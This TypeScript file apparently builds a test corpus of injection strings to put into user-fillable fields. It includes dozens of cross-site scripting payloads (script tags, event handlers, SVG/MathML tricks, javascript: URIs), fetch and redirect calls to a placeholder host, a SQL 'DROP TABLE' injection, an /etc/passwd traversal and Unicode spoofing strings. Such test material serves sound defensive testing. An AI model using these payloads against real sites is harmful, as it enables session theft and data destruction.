// Strings that have become markup or script somewhere: each is put into every field that a stranger can fill.

const SCRIPTS = ['alert(1)', "window.hit='HERE'", 'document.location=`https://canary.invalid/`', 'fetch("https://canary.invalid/")'];

function elements(script: string): string[] {
  return [
    `<script>${script}</script>`, `"><script>${script}</script>`, `'><script>${script}</script>`, `</textarea><script>${script}</script>`, `</title><script>${script}</script>`,
    `<ScRiPt>${script}</sCrIpT>`, `<script/src=data:text/javascript,${script}></script>`, `<<script>${script}//<</script>`, `<script\n>${script}</script\n>`,
    `<img src=x onerror=${script}>`, `<img src="x" onerror="${script}">`, `<IMG SRC=x OnErRoR=${script}>`, `<img/src=x/onerror=${script}>`, `<img src=x onerror\n=${script}>`, `<image src=x onerror=${script}>`,
    `<svg onload=${script}>`, `<svg/onload=${script}>`, `<svg><script>${script}</script></svg>`, `<svg><animate onbegin=${script} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${script}"><text>x</text></a></svg>`, `<svg><foreignObject><body onload=${script}></foreignObject></svg>`,
    `<math><mi//xlink:href="data:x,<script>${script}</script>">`, `<math><mtext><table><mglyph><style><img src=x onerror=${script}>`,
    `<iframe src="javascript:${script}"></iframe>`, `<iframe srcdoc="<script>${script}</script>"></iframe>`, `<object data="javascript:${script}"></object>`, `<embed src="javascript:${script}">`,
    `<body onload=${script}>`, `<details open ontoggle=${script}>`, `<video><source onerror=${script}></video>`, `<audio src=x onerror=${script}>`, `<input autofocus onfocus=${script}>`, `<select autofocus onfocus=${script}>`, `<marquee onstart=${script}>`,
    `<form action="javascript:${script}"><input type=submit>`, `<button formaction="javascript:${script}">x</button>`, `<a href="javascript:${script}">x</a>`, `<base href="javascript:/a/-${script}//">`, `<meta http-equiv=refresh content="0;url=javascript:${script}">`, `<link rel=stylesheet href="https://canary.invalid/x.css">`, `<style>@import 'https://canary.invalid/x.css';</style>`,
    `<noscript><p title="</noscript><img src=x onerror=${script}>">`, `<template><script>${script}</script></template>`, `<!--><img src=x onerror=${script}>-->`, `<![CDATA[<script>${script}</script>]]>`, `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${script}</x:script>`,
    `javascript:${script}`, `JaVaScRiPt:${script}`, `java\tscript:${script}`, ` javascript:${script}`, `data:text/html,<script>${script}</script>`, `vbscript:${script}`, `blob:https://canary.invalid/${script}`, `xmpp:a@b?;<img src=x onerror=${script}>`,
    `{{constructor.constructor("${script}")()}}`, `\${${script}}`, `{@html "<img src=x onerror=${script}>"}`, `%3Cscript%3E${script}%3C/script%3E`, `&lt;script&gt;${script}&lt;/script&gt;`, `&#60;script&#62;${script}`, `\\u003cscript\\u003e${script}`,
  ];
}

const LINKS = [
  '[x](javascript:alert(1))', '![x](https://canary.invalid/x.png)', '![x](javascript:alert(1))', '<javascript:alert(1)>', '[x]: javascript:alert(1)', '`<img src=x onerror=alert(1)>`', '```html\n<script>alert(1)</script>\n```', '> <img src=x onerror=alert(1)>', '*<b onmouseover=alert(1)>*', '@<img src=x onerror=alert(1)>',
  'https://canary.invalid/"onmouseover="alert(1)', 'https://canary.invalid/<script>alert(1)</script>', "https://canary.invalid/'onclick='alert(1)", 'https://user:pass@canary.invalid/', 'https://canary.invalid/\u202Egnp.exe', '//canary.invalid/x', 'http://[::1]:1/x', 'geo:1,2;u=<script>', 'tel:+1"onclick="alert(1)', 'mailto:a@b?body=<script>alert(1)</script>',
  '\u202Eevil\u202C', '\u200B\u200E<script>alert(1)</script>', '__proto__', 'constructor', 'toString', '[object Object]', 'null', '%00', "'; DROP TABLE messages;--", '../../../etc/passwd',
];

export const CORPUS: readonly string[] = [...new Set([...SCRIPTS.flatMap(elements), ...LINKS])];
